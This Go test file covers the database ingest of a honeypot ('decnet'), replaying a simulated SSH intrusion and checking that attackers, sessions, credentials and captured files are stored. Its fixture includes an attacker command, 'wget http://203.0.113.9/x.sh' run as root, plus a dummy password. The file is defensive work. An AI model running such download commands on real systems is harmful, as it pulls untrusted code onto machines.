package db_test

import (
	"context"
	"encoding/json"
	"fmt"
	"net/netip"
	"strings"
	"testing"
	"time"

	"github.com/google/uuid"
	"github.com/jackc/pgx/v5"
	"github.com/stretchr/testify/require"

	"github.com/decnet/decnet/db"
	"github.com/decnet/decnet/db/dbtest"
	"github.com/decnet/decnet/internal/bus"
	"github.com/decnet/decnet/internal/decky"
	"github.com/decnet/decnet/internal/fault"
	"github.com/decnet/decnet/internal/ingest"
	"github.com/decnet/decnet/internal/topology"
)

const (
	sid     = "0b8f9c7e-6a5d-4c3b-8a19-001122334455"
	stored  = "2026-02-03T04:05:06Z_0123456789ab_x.sh"
	sum     = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
	hunter2 = "aHVudGVyMg=="
	root    = "192.0.2.7"
)

// ingestBundle is a database and what lines for it are made with.
type ingestBundle struct {
	store *db.Store
	url   string
	conn  *pgx.Conn
	x     *ingest.Extractor
	host  string
	n     uint64
}

func setupIngest(t testing.TB) *ingestBundle {
	t.Helper()
	b := &ingestBundle{url: dbtest.URL(t), x: ingest.NewExtractor(nil), host: uuid.NewString()}
	var err error
	b.store, err = db.Open(t.Context(), b.url)
	require.NoError(t, err)
	t.Cleanup(b.store.Close)
	b.conn, err = pgx.Connect(t.Context(), b.url)
	require.NoError(t, err)
	t.Cleanup(func() { _ = b.conn.Close(context.WithoutCancel(t.Context())) })
	return b
}

func fleet(name, service string) ingest.Source {
	return ingest.Source{DeckyKey: name, DeckyName: name, DeckyID: uuid.NewSHA1(uuid.Nil, []byte(name)), Service: service}
}

func second(n int) time.Time { return time.Date(2026, 2, 3, 4, 5, n, 0, time.UTC) }

// line makes what the next line of a source says.
func (b *ingestBundle) line(t testing.TB, src ingest.Source, kind string, at int, fields ...string) ingest.Extraction {
	t.Helper()
	b.n++
	return b.numbered(t, src, b.n, kind, at, fields...)
}

func (b *ingestBundle) numbered(t testing.TB, src ingest.Source, n uint64, kind string, at int, fields ...string) ingest.Extraction {
	t.Helper()
	var sd strings.Builder
	fmt.Fprintf(&sd, `boot="boot-1" n="%d"`, n)
	for i := 0; i < len(fields); i += 2 {
		fmt.Fprintf(&sd, ` %s="%s"`, fields[i], strings.NewReplacer(`\`, `\\`, `"`, `\"`, `]`, `\]`).Replace(fields[i+1]))
	}
	text := fmt.Sprintf(`<134>1 %s %s %s - %s [relay@55555 %s]`, second(at).Format(time.RFC3339Nano), src.DeckyName, src.Service, kind, sd.String())
	r, err := ingest.Parse([]byte(text))
	require.NoError(t, err, text)
	x := b.x.Extract(src, &r)
	require.Empty(t, x.Problems)
	return x
}

func (b *ingestBundle) ingest(t testing.TB, lines ...ingest.Extraction) db.IngestResult {
	t.Helper()
	r, err := b.store.Ingest(t.Context(), db.IngestBatch{Extractions: lines})
	require.NoError(t, err)
	return r
}

// ingestOnce fills the tables of ingest.
func ingestOnce(t testing.TB, store *db.Store) {
	t.Helper()
	b := &ingestBundle{store: store, x: ingest.NewExtractor(nil)}
	src := fleet("web-01", "ssh")
	_, err := store.Ingest(t.Context(), db.IngestBatch{
		Extractions: b.wholeSession(t, src),
		Cursors:     []db.IngestCursor{{HostID: "host", DeckyID: src.DeckyID, Service: "ssh", File: firstLine, To: 7}},
		Sequences:   []db.IngestSequence{{DeckyID: src.DeckyID, Service: "ssh"}},
		Outcomes:    []db.IngestOutcome{{DeckyKey: "web-01", Service: "ssh", Outcome: db.OutcomeStored, Lines: 7}},
	})
	require.NoError(t, err)
}

func one[T any](t testing.TB, conn *pgx.Conn, sql string, args ...any) T {
	t.Helper()
	rows, err := conn.Query(t.Context(), sql, args...)
	require.NoError(t, err)
	v, err := pgx.CollectExactlyOneRow(rows, pgx.RowTo[T])
	require.NoError(t, err, sql)
	return v
}

func list[T any](t testing.TB, conn *pgx.Conn, sql string, args ...any) []T {
	t.Helper()
	rows, err := conn.Query(t.Context(), sql, args...)
	require.NoError(t, err)
	v, err := pgx.CollectRows(rows, pgx.RowTo[T])
	require.NoError(t, err, sql)
	return v
}

// payloads returns what waits in the outbox under a topic, and makes sure that the bus would take it.
func (b *ingestBundle) payloads(t testing.TB, topic string) []map[string]any {
	t.Helper()
	var out []map[string]any
	events, err := b.store.Unpublished(t.Context(), 100_000)
	require.NoError(t, err)
	for _, e := range events {
		subject, err := bus.ParseSubject(e.Topic)
		require.NoError(t, err)
		if e.Topic != topic {
			continue
		}
		var payload map[string]any
		require.NoError(t, json.Unmarshal(e.Payload, &payload))
		envelope, err := bus.New(subject, e.Type, e.At, payload)
		require.NoError(t, err)
		_, err = envelope.Encode()
		require.NoError(t, err)
		out = append(out, payload)
	}
	return out
}

func session(more ...string) []string {
	return append([]string{"src_ip", root, "src_port", "51514", "sid", sid}, more...)
}

// wholeSession is what one intruder does on one decky.
func (b *ingestBundle) wholeSession(t testing.TB, src ingest.Source) []ingest.Extraction {
	t.Helper()
	return []ingest.Extraction{
		b.line(t, src, "startup", 0),
		b.line(t, src, "session_opened", 1, session()...),
		b.line(t, src, "auth_attempt", 2, session("principal", "root", "secret_printable", "hunter2", "secret_b64", hunter2, "outcome", "failure")...),
		b.line(t, src, "auth_attempt", 3, session("principal", "root", "secret_printable", "hunter2", "secret_b64", hunter2)...),
		b.line(t, src, "command", 4, session("command", "wget http://203.0.113.9/x.sh", "uid", "0", "user", "root", "pwd", "/tmp")...),
		b.line(t, src, "file_captured", 5, session("stored_as", stored, "sha256", sum, "size", "9", "orig_path", "/tmp/x.sh")...),
		b.line(t, src, "session_closed", 6, session("duration_s", "5.000", "command_count", "1", "has_recording", "true")...),
	}
}

func TestIngest_StoresAllThatFollows(t *testing.T) {
	t.Parallel()
	b := setupIngest(t)
	src := fleet("web-01", "ssh")
	file := db.IngestCursor{HostID: b.host, DeckyID: src.DeckyID, Service: "ssh", File: firstLine, To: 1234}
	seq := ingest.Sequence{Boots: []ingest.Position{{Boot: "boot-1", Line: 7, Time: second(6)}}}
	require.NoError(t, b.store.InTx(t.Context(), func(tx *db.Tx) error {
		return tx.CreateDecky(t.Context(), decky.Decky{ID: src.DeckyID, Scope: "fleet", Name: "web-01", Key: "web-01", IP: netip.MustParseAddr("10.0.0.9")})
	}))
	got, err := b.store.Ingest(t.Context(), db.IngestBatch{
		Extractions: b.wholeSession(t, src), Cursors: []db.IngestCursor{file},
		Sequences: []db.IngestSequence{{DeckyID: src.DeckyID, Service: "ssh", Sequence: seq}},
		Outcomes: []db.IngestOutcome{
			{DeckyKey: "web-01", Service: "ssh", Outcome: db.OutcomeStored, Lines: 7},
			{DeckyKey: "web-01", Service: "ssh", Outcome: db.OutcomeDroppedRate, Lines: 2},
			{DeckyKey: "web-01", Service: "ssh", Outcome: db.OutcomeStored},
			{DeckyKey: "web-01", Service: "ssh", Outcome: db.OutcomeDroppedRate, Lines: 3},
		},
	})
	require.NoError(t, err)
	require.Equal(t, db.IngestResult{Stored: 7, NewAttackers: 1, EndedSessions: 1}, got)

	id := one[uuid.UUID](t, b.conn, "SELECT id FROM attackers WHERE ip = $1", root)
	require.Equal(t, `{192.0.2.7,"2026-02-03 04:05:01+00","2026-02-03 04:05:06+00",6,{ssh},{ssh},{},{},{web-01},1,1,1,1}`, array(one[string](t, b.conn,
		`SELECT (ip, first_seen, last_seen, event_count, services, interacted, scanned, victim_domains, deckies, session_count,
		         command_count, bounty_count, credential_count)::text FROM attackers`)))
	require.Equal(t, []string{"startup", "session_opened", "auth_attempt", "auth_attempt", "command", "file_captured", "session_closed"},
		list[string](t, b.conn, "SELECT type FROM events ORDER BY id"))
	require.Equal(t, 6, one[int](t, b.conn, "SELECT count(*) FROM events WHERE attacker_id = $1 AND attacker_ip = $2 AND attacker_port = 51514 AND session = $3", id, root, sid))
	require.Equal(t, 1, one[int](t, b.conn, "SELECT count(*) FROM events WHERE attacker_id IS NULL AND attacker_ip IS NULL AND sensor = '' AND import_key IS NULL"))
	require.Equal(t, 1, one[int](t, b.conn, "SELECT count(*) FROM events WHERE fields->>'command' = 'wget http://203.0.113.9/x.sh' AND line = 5 AND boot = 'boot-1' AND decky_id = $1 AND topology_id IS NULL", src.DeckyID))
	q, err := ingest.ParseQuery("service:ssh wget attacker:192.0.2.7")
	require.NoError(t, err)
	require.Equal(t, 1, one[int](t, b.conn, "SELECT count(*) FROM events WHERE document @@ $1::text::tsquery", q.Document))
	require.Equal(t, 1, one[int](t, b.conn, `SELECT count(*) FROM sessions WHERE session = $1 AND attacker_id = $2 AND started_at = $3 AND ended_at = $4
		AND commands = 1 AND recorded AND opened AND line = 7 AND decky_id = $5`, sid, id, second(1), second(6), src.DeckyID))
	require.Equal(t, 1, one[int](t, b.conn, `SELECT count(*) FROM commands WHERE ref = $1 AND text = 'wget http://203.0.113.9/x.sh' AND uid = '0' AND username = 'root'
		AND directory = '/tmp' AND line = 5 AND attacker_id = $2 AND document @@ '''203'' & ''wget'''::tsquery`, sid+"#5", id))
	require.Equal(t, 1, one[int](t, b.conn, `SELECT count(*) FROM bounties WHERE type = 'artifact' AND kind = 'file' AND payload->>'stored_as' = $1 AND attacker_id = $2`, stored, id))
	require.Equal(t, 1, one[int](t, b.conn, `SELECT count(*) FROM artifacts WHERE stored_as = $1 AND sha256 = $2 AND size = 9 AND folder = 'ssh' AND session = $3 AND attacker_id = $4`, stored, sum, sid, id))
	require.Equal(t, 1, one[int](t, b.conn, `SELECT count(*) FROM credentials WHERE attempt_count = 2 AND outcome = 'failure' AND principal = 'root' AND secret_printable = 'hunter2'
		AND first_seen = $1 AND last_seen = $2 AND attacker_id = $3`, second(2), second(3), id))
	require.Equal(t, 1, one[int](t, b.conn, `SELECT count(*) FROM credential_reuse WHERE attempt_count = 2 AND target_count = 1 AND targets = '{web-01/ssh}' AND attacker_ids = ARRAY[$1::uuid]`, id))
	require.Equal(t, second(6), one[time.Time](t, b.conn, "SELECT last_activity_at FROM deckies").UTC())
	require.Equal(t, []string{"dropped_rate 5", "stored 7"}, list[string](t, b.conn, "SELECT outcome || ' ' || lines FROM ingest_outcomes ORDER BY 1"))

	require.Equal(t, []map[string]any{{
		"attacker_uuid": id.String(), "attacker_ip": root, "decky": "web-01", "service": "ssh", "event_type": "session_opened",
		"first_seen": "2026-02-03T04:05:01.000000Z",
	}}, b.payloads(t, "attacker.observed"))
	require.Equal(t, []map[string]any{{
		"session_id": sid, "attacker_uuid": id.String(), "attacker_ip": root, "decky_key": "web-01", "decky_name": "web-01", "topology_id": nil,
		"service": "ssh", "started_at": "2026-02-03T04:05:01.000000Z", "ended_at": "2026-02-03T04:05:06.000000Z", "duration_s": 5.0,
		"command_count": 1.0, "has_recording": true,
	}}, b.payloads(t, "attacker.session.ended"))
	require.Equal(t, []string{id.String()}, list[string](t, b.conn, "SELECT DISTINCT key FROM outbox"))

	cursors, err := b.store.IngestCursors(t.Context(), b.host)
	require.NoError(t, err)
	at := db.IngestFile{DeckyID: src.DeckyID, Service: "ssh", File: firstLine}
	require.Equal(t, map[db.IngestFile]int64{at: 1234}, cursors)
	sequences, err := b.store.IngestSequences(t.Context())
	require.NoError(t, err)
	require.Equal(t, map[db.DeckyOutput]ingest.Sequence{{DeckyID: src.DeckyID, Service: "ssh"}: seq}, sequences)

	other, err := b.store.IngestCursors(t.Context(), "elsewhere")
	require.NoError(t, err)
	require.Empty(t, other)
	require.NoError(t, b.store.DeleteIngestCursors(t.Context(), "elsewhere", []db.IngestFile{at}))
	require.NoError(t, b.store.DeleteIngestCursors(t.Context(), b.host, nil))
	require.Equal(t, 1, one[int](t, b.conn, "SELECT count(*) FROM ingest_cursors"))
	require.NoError(t, b.store.DeleteIngestCursors(t.Context(), b.host, []db.IngestFile{at}))
	require.Zero(t, one[int](t, b.conn, "SELECT count(*) FROM ingest_cursors"))
}

// array replaces the parentheses and quotes of a row by those of its lists.
func array(row string) string {
	return "{" + strings.TrimSuffix(strings.TrimPrefix(row, "("), ")") + "}"
}

func TestIngest_MovedCursorStoresNothing(t *testing.T) {
	t.Parallel()
	b := setupIngest(t)
	src := fleet("web-01", "ssh")
	other := strings.Repeat("0", 64)
	cursor := func(file string, from, to int64) db.IngestCursor {
		return db.IngestCursor{HostID: b.host, DeckyID: src.DeckyID, Service: "ssh", File: file, From: from, To: to}
	}
	for _, c := range []struct {
		name    string
		cursors []db.IngestCursor
		moved   bool
	}{
		{"a file not met before has no position", []db.IngestCursor{cursor(firstLine, 10, 20)}, true},
		{"a new file", []db.IngestCursor{cursor(firstLine, 0, 100)}, false},
		{"it is not new any more", []db.IngestCursor{cursor(firstLine, 0, 100)}, true},
		{"it goes on", []db.IngestCursor{cursor(firstLine, 100, 200)}, false},
		{"it has gone on", []db.IngestCursor{cursor(firstLine, 100, 200)}, true},
		{"one of two has", []db.IngestCursor{cursor(other, 0, 50), cursor(firstLine, 100, 200)}, true},
		{"both as they are", []db.IngestCursor{cursor(other, 0, 0), cursor(firstLine, 200, 300)}, false},
		{"a file at its beginning", []db.IngestCursor{cursor(other, 0, 60)}, false},
		{"a file twice", []db.IngestCursor{cursor(strings.Repeat("1", 64), 0, 60), cursor(strings.Repeat("1", 64), 0, 60)}, true},
	} {
		before := dump(t, b.conn)
		_, err := b.store.Ingest(t.Context(), db.IngestBatch{
			Extractions: b.wholeSession(t, src), Cursors: c.cursors,
			Outcomes: []db.IngestOutcome{{DeckyKey: "web-01", Service: "ssh", Outcome: db.OutcomeStored, Lines: 7}},
		})
		if !c.moved {
			require.NoError(t, err, c.name)
			require.NotEqual(t, before, dump(t, b.conn), c.name)
			continue
		}
		f, ok := fault.As(err)
		require.True(t, ok, "%s: %v", c.name, err)
		require.Equal(t, fault.Conflict, f.Kind, c.name)
		require.Equal(t, "cursor_moved", f.Code, c.name)
		require.Equal(t, before, dump(t, b.conn), c.name)
	}
}

// dump is every row that ingest writes.
func dump(t testing.TB, conn *pgx.Conn) map[string][]string {
	t.Helper()
	all := map[string][]string{}
	for _, table := range []string{
		"attackers", "events", "sessions", "commands", "bounties", "credentials", "credential_reuse", "artifacts", "ingest_cursors",
		"ingest_sequences", "ingest_outcomes", "imports", "outbox",
	} {
		all[table] = list[string](t, conn, "SELECT x::text FROM "+table+" x ORDER BY 1")
	}
	return all
}

func TestIngest_ManyAtOnceTakeAFileOnce(t *testing.T) {
	t.Parallel()
	b := setupIngest(t)
	src := fleet("web-01", "ssh")
	lines := b.wholeSession(t, src)
	won := make(chan bool, 8)
	for range cap(won) {
		go func() {
			_, err := b.store.Ingest(t.Context(), db.IngestBatch{
				Extractions: lines,
				Cursors:     []db.IngestCursor{{HostID: b.host, DeckyID: src.DeckyID, Service: "ssh", File: firstLine, To: 1}},
			})
			if f, ok := fault.As(err); err != nil && (!ok || f.Code != "cursor_moved") {
				t.Error(err)
			}
			won <- err == nil
		}()
	}
	winners := 0
	for range cap(won) {
		if <-won {
			winners++
		}
	}
	require.Equal(t, 1, winners)
	require.Equal(t, 7, one[int](t, b.conn, "SELECT count(*) FROM events"))
}

// A batch is stored again when the database asks for it, so storing must leave it as it was.
func TestIngest_LeavesTheBatchAlone(t *testing.T) {
	t.Parallel()
	b := setupIngest(t)
	src := fleet("web-01", "ssh")
	lines := append(b.wholeSession(t, src), b.wholeSession(t, fleet("db-01", "ssh"))...)
	b.n = 0
	again := append(b.wholeSession(t, src), b.wholeSession(t, fleet("db-01", "ssh"))...)
	b.ingest(t, lines...)
	require.Equal(t, again, lines)
	b.ingest(t, lines...)
	require.Equal(t, again, lines)
}

func TestIngest_NothingIsNothing(t *testing.T) {
	t.Parallel()
	b := setupIngest(t)
	before := dump(t, b.conn)
	require.Equal(t, db.IngestResult{}, b.ingest(t))
	require.Equal(t, before, dump(t, b.conn))
}

func TestIngest_DeckiesAndSelfChecks(t *testing.T) {
	t.Parallel()
	b := setupIngest(t)
	ids := []uuid.UUID{uuid.Must(uuid.NewV7()), uuid.Must(uuid.NewV7()), uuid.Must(uuid.NewV7())}
	maze := uuid.New()
	begin, err := b.store.Now(t.Context())
	require.NoError(t, err)
	require.NoError(t, b.store.InTx(t.Context(), func(tx *db.Tx) error {
		for i, d := range []decky.Decky{
			{Scope: "fleet", Name: "web-01", Key: "web-01"}, {Scope: topology.ScopeName(maze), Name: "pc-01", Key: topology.ShortID(maze) + "-pc-01"},
		} {
			d.ID, d.IP = ids[i], netip.AddrFrom4([4]byte{10, 0, 0, byte(i + 1)})
			if err := tx.CreateDecky(t.Context(), d); err != nil {
				return err
			}
		}
		return tx.SetDeckyState(t.Context(), ids[1], decky.TornDown, "")
	}))
	deckies, err := b.store.IngestDeckies(t.Context(), ids)
	require.NoError(t, err)
	require.Equal(t, map[uuid.UUID]db.IngestDecky{
		ids[0]: {Key: "web-01", Name: "web-01"}, ids[1]: {Key: topology.ShortID(maze) + "-pc-01", Name: "pc-01", TopologyID: maze},
	}, deckies)

	local := netip.MustParseAddrPort("10.0.0.254:40123")
	for _, id := range ids { // of the third nobody knows the key
		require.NoError(t, b.store.RecordSelfCheck(t.Context(), db.SelfCheck{DeckyID: id, Service: "ssh", Local: local, Remote: netip.MustParseAddrPort("10.0.0.1:22")}))
	}
	checks, err := b.store.RecentSelfChecks(t.Context(), begin)
	require.NoError(t, err)
	require.Len(t, checks, 2)
	require.Contains(t, []string{checks[0].DeckyKey, checks[1].DeckyKey}, "web-01")
	require.Equal(t, local, checks[0].Local)
	require.False(t, checks[0].At.Before(begin))
	later, err := b.store.RecentSelfChecks(t.Context(), checks[0].At.Add(time.Hour))
	require.NoError(t, err)
	require.Empty(t, later)
}

func TestIngest_ActivityOnlyMovesOnAndOnlyBySomebody(t *testing.T) {
	t.Parallel()
	b := setupIngest(t)
	src := fleet("web-01", "ssh")
	require.NoError(t, b.store.InTx(t.Context(), func(tx *db.Tx) error {
		return tx.CreateDecky(t.Context(), decky.Decky{ID: src.DeckyID, Scope: "fleet", Name: "web-01", Key: "web-01", IP: netip.MustParseAddr("10.0.0.9")})
	}))
	b.ingest(t, b.line(t, src, "startup", 30))
	require.Nil(t, one[*time.Time](t, b.conn, "SELECT last_activity_at FROM deckies"))
	b.ingest(t, b.line(t, src, "connect", 20, session()...), b.line(t, src, "connect", 10, session()...))
	b.ingest(t, b.line(t, src, "connect", 15, session()...))
	require.Equal(t, second(20), one[time.Time](t, b.conn, "SELECT last_activity_at FROM deckies").UTC())
}
